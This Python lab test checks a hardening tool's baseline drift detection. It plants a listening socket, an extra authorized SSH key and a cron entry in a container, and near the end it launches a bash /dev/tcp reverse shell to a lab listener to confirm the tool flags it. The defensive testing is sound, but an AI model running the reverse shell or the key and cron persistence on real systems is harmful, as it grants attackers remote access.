"""``harden hunt --baseline DIR`` on a real lab container: a baseline, then a new listening service,
a new SSH key and a new cron entry show as drift, exactly those.

Its own lab (state default, prefix ``harden-d21drift<pid>``). Two baseline hunts (the second must
show nothing new: the hunt's own SSH session, sudo and collector are no drift), then inside the
container: a python3 socket listening on 0.0.0.0:8765 (started with ``podman exec -d``, so it has
no parent inside the container; it listens only, nothing connects; it exits by itself after 150 s
and is killed by pid at the end), a fresh ed25519 key appended to the ``harden`` user's
``authorized_keys``, and ``/etc/cron.d/d21drift``. No traffic leaves the container.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import jsonschema
import pytest

from hardening.hunt.run import load_schema

sys.path.insert(0, str(Path(__file__).parents[1] / "support"))
import hunt_scenarios as hs
from labutil import harden_cli as harden
from labutil import private_lab

pytestmark = pytest.mark.lab
BIN = Path(sys.executable).parent
PORT = 8765
MARK = 2121  # HUNT_SCENARIO of the listener: found by its environment, killed by pid
SHELL = 2122  # HUNT_SCENARIO of the reverse shell
CRON = "*/30 * * * * root /bin/true d21drift"


@pytest.fixture(scope="module")
def dlab(lab, tmp_path_factory):  # `lab` first: root, podman and the shared network exist
    with private_lab(tmp_path_factory, ("default",), "d21drift") as up:
        yield up


def hunt(lab, out: Path, base: Path, *extra: str) -> dict:
    r = harden("hunt", lab.inventory, "--out", out, "--baseline", base, "--timeout", "60", *extra)
    assert r.returncode in (0, 1), r.stdout[-2000:] + r.stderr[-3000:]
    doc = json.loads((out / "hunt.json").read_text())
    jsonschema.validate(doc, load_schema("hunt.v1.json"))
    (h,) = doc["hosts"]
    assert h["status"] == "ok", h
    return {"host": h, "stdout": r.stdout, "stderr": r.stderr}


def new_items(h: dict) -> dict[str, list[str]]:
    return {cat: sorted(i["key"] for i in items) for cat, items in h["drift"]["new"].items()}


def test_baseline_then_new_service_key_and_cron_entry_are_exactly_the_drift(dlab, tmp_path):
    c = dlab.host("default").container
    name = dlab.host("default").name
    base = tmp_path / "baseline"
    first = hunt(dlab, tmp_path / "h1", base)["host"]
    assert first["drift"]["status"] == "created" and first["drift"]["new_items"] == 0, first["drift"]
    assert first["drift"]["learned"] and (base / f"{name}.json").exists()
    second = hunt(dlab, tmp_path / "h2", base)["host"]
    assert second["drift"]["status"] == "compared" and second["drift"]["hunts"] == 1
    assert second["drift"]["new"] == {}, second["drift"]  # our own session and collector are no drift

    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "drift", "-f", str(tmp_path / "k")], check=True
    )
    pub = (tmp_path / "k.pub").read_text().strip()
    fingerprint = subprocess.run(
        ["ssh-keygen", "-l", "-f", str(tmp_path / "k.pub")], capture_output=True, text=True, check=True
    ).stdout.split()[1]
    listener = (
        "import socket,time; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); "
        f"s.bind(('0.0.0.0', {PORT})); s.listen(1); time.sleep(150)"
    )
    try:
        hs.podman("exec", "-d", "-e", f"HUNT_SCENARIO={MARK}", c, "python3", "-c", listener)
        hs.sh(c, f"printf '%s\\n' '{pub}' >> /home/harden/.ssh/authorized_keys")
        hs.sh(c, f"printf '%s\\n' '# planted by the drift lab test' '{CRON}' > /etc/cron.d/d21drift")
        deadline = time.monotonic() + 10
        while f":{PORT:04X} " not in hs.sh(c, "cat /proc/net/tcp") and time.monotonic() < deadline:
            time.sleep(0.2)
        exe = hs.sh(c, f"readlink /proc/{min(hs.scenario_pids(c)[MARK])}/exe").strip()
        third = hunt(dlab, tmp_path / "h3", base)
    finally:
        hs.kill(c, hs.scenario_pids(c).get(MARK, set()))
        hs.sh(c, "rm -f /etc/cron.d/d21drift", check=False)
    h = third["host"]
    assert h["drift"]["status"] == "compared" and h["drift"]["hunts"] == 2 and h["drift"]["learned"]
    assert new_items(h) == {
        "listen": [f"tcp *:{PORT} {exe}"],
        "ssh_keys": [f"harden ssh-ed25519 {fingerprint}"],
        "cron": [f"/etc/cron.d/d21drift: {CRON}"],
    }, h["drift"]
    # the console shows the drift table; stdout carries the new items
    assert "drift since baseline" in third["stdout"] and f"*:{PORT}" in third["stdout"]
    stored = json.loads((base / f"{name}.json").read_text())
    assert stored["hunts"] == 3
    assert stored["categories"]["ssh_keys"][f"harden ssh-ed25519 {fingerprint}"]["count"] == 1
    assert all(e["count"] == 3 for e in stored["categories"]["users"].values())
    print(third["stdout"])

    # a watch with the baseline: the files are read in the first sample, nothing is new (the key and
    # the listener's absence are no drift: only what is new counts), the hunt is counted once
    fourth = hunt(dlab, tmp_path / "h4", base, "--watch", "3", "--interval", "1")["host"]
    assert fourth["samples"] >= 2 and fourth["drift"]["status"] == "compared" and fourth["drift"]["hunts"] == 3
    assert fourth["drift"]["new"] == {}, fourth["drift"]
    assert json.loads((base / f"{name}.json").read_text())["hunts"] == 4

    # a live reverse shell this host never showed: its incident says so first, and what it showed is
    # withheld from the baseline (the shell is never learned silently)
    assert " dev eth0 " in hs.sh(c, f"ip route get {hs.GATEWAY}")  # over the lab bridge only
    try:
        with hs.Listener(lifetime=60, max_conns=1) as callback:
            revshell = f"bash -i >& /dev/tcp/{hs.GATEWAY}/{callback.port} 0>&1"
            hs.podman("exec", "-d", "-e", f"HUNT_SCENARIO={SHELL}", c, "bash", "-c", revshell)
            assert hs.wait_connected(callback, 1) == 1
            bash = hs.sh(c, f"readlink /proc/{min(hs.scenario_pids(c)[SHELL])}/exe").strip()
            fifth = hunt(dlab, tmp_path / "h5", base)["host"]
    finally:
        hs.kill(c, hs.scenario_pids(c).get(SHELL, set()))
    key = f"{bash} -> tcp {hs.GATEWAY}:ephemeral"  # the listener's port is in the ephemeral range
    pair = f"{bash} > {bash}"  # bash -c forks the redirected bash -i
    assert new_items(fifth) == {"outbound": [key], "pairs": [pair]}, fifth["drift"]
    (inc,) = [i for i in fifth["incidents"] if i["severity"] == "high"]
    assert inc["reasons"][0].startswith(f"never seen on this host before: {key}"), inc["reasons"]
    withheld = fifth["drift"]["withheld"]
    assert [i["key"] for i in withheld["outbound"]] == [key] and [i["key"] for i in withheld["pairs"]] == [pair]
    stored = json.loads((base / f"{name}.json").read_text())
    assert (
        stored["hunts"] == 5
        and key not in stored["categories"]["outbound"]
        and pair not in stored["categories"]["pairs"]
    )
